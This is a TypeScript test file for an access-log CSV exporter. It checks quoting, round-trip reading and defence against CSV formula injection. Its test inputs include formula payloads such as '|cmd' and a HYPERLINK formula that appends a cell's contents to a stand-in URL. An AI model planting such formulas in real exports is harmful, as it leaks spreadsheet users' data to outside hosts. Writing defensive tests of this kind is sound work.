// Guarantee (SPEC §8, OWASP CSV Injection): whatever a visitor sends, a line of CSV has fourteen fields, reads back as what
// was recorded, and begins no formula in any spreadsheet.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { AccessLogEntry } from '../../contracts/index.ts'
import { csvHeader, toCsvLine } from './access-log-csv.ts'

const entry: AccessLogEntry = {
  id: 'log_1',
  shareId: 'share_1',
  timestamp: '2026-03-02T10:00:00.000Z',
  ipAddress: '203.0.113.42',
  userAgent: 'Mozilla/5.0',
  path: '/api',
  method: 'GET',
  statusCode: 200,
  latencyMs: 45,
  bytesIn: 0,
  bytesOut: 5120,
  denied: null,
  visitorId: null,
  suppressedCount: 0,
}

/** A reader of RFC 4180 that knows nothing of how we write. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  const field = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y
  for (let row: string[] = []; field.lastIndex < text.length;) {
    const [, raw = '', end] = field.exec(text) ?? []
    if (end === undefined) throw new Error(`No field at ${JSON.stringify(text.slice(field.lastIndex, 40))}`)
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw)
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}
const fieldsOf = (changes: Partial<AccessLogEntry>): string[] =>
  readCsv(toCsvLine({ ...entry, ...changes }))[0] ?? []
const agentOf = (userAgent: string | null): string | undefined => fieldsOf({ userAgent })[4]
const lineWith = (userAgent: string): string => toCsvLine({ ...entry, userAgent })

describe('the header', () => {
  it('names every field of an entry, once, in the order of the lines', () => {
    const [names = []] = readCsv(csvHeader)
    expect(names.toSorted()).toEqual(Object.keys(entry).sort())
    const values = fieldsOf({})
    for (const [name, value] of Object.entries(entry)) {
      expect(values[names.indexOf(name)]).toBe(value === null ? '' : String(value))
    }
  })

  it('and every line end with CR LF', () => {
    expect(csvHeader.endsWith('suppressedCount\r\n')).toBe(true)
    expect(toCsvLine(entry).endsWith(',0\r\n')).toBe(true)
  })
})

describe('a field', () => {
  it('that is plain is left as it is, and none is empty', () => {
    expect(toCsvLine(entry)).toBe(
      'log_1,share_1,2026-03-02T10:00:00.000Z,203.0.113.42,Mozilla/5.0,GET,/api,200,45,0,5120,,,0\r\n',
    )
    expect(agentOf(null)).toBe('')
  })

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['a\nb', '"a\nb"'],
    ['a\r\nb', '"a\r\nb"'],
    ['a\tb', '"a\tb"'],
    [' a', '" a"'],
    ['a ', '"a "'],
  ])('%j is quoted', (text, field) => {
    expect(lineWith(text)).toContain(`,${field},GET,`)
    expect(agentOf(text)).toBe(text)
  })

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '|cmd',
    '%0A',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '=HYPERLINK("http://x/?"&A1,"Error: click")',
  ])('%j is text to a spreadsheet, and the rest of it is as it was', (text) => {
    expect(agentOf(text)).toBe(`'${text}`)
  })

  it.each(['1-1', 'a=b', 'x@y', '/a?b=-1', "'quoted", ''])('%j has nothing in front of it', (text) => {
    expect(agentOf(text)).toBe(text)
  })

  it('that a visitor chose is guarded wherever it stands', () => {
    const [path, method, visitor] = [
      fieldsOf({ path: '=1' })[6],
      fieldsOf({ method: '@x' })[5],
      fieldsOf({ visitorId: '+1' })[12],
    ]
    expect([path, method, visitor]).toEqual(["'=1", "'@x", "'+1"])
  })

  it('that is a number is one, negative ones too', () => {
    expect(fieldsOf({ latencyMs: -1 })[8]).toBe('-1')
  })
})

const hostile = fc
  .array(fc.constantFrom(...'=+-@|%＝＋－＠,"\'\r\n\t ;a1/'), { maxLength: 12 })
  .map((characters) => characters.join(''))

describe('whatever a visitor sends', () => {
  it('stays in its field, and is read back as it was but for an apostrophe', () => {
    fc.assert(
      fc.property(hostile, hostile, (userAgent, path) => {
        const rows = readCsv(csvHeader + toCsvLine({ ...entry, userAgent, path }) + toCsvLine(entry))
        expect(rows.map((fields) => fields.length)).toEqual([14, 14, 14])
        expect([userAgent, `'${userAgent}`]).toContain(rows[1]?.[4])
        expect([path, `'${path}`]).toContain(rows[1]?.[6])
        expect(rows[2]).toEqual(fieldsOf({}))
      }),
    )
  })

  it('begins no formula, with or without what a spreadsheet trims', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(agentOf(text)?.trimStart() ?? '').not.toMatch(/^[=+\-@|%＝＋－＠]/u)
      }),
    )
  })
})
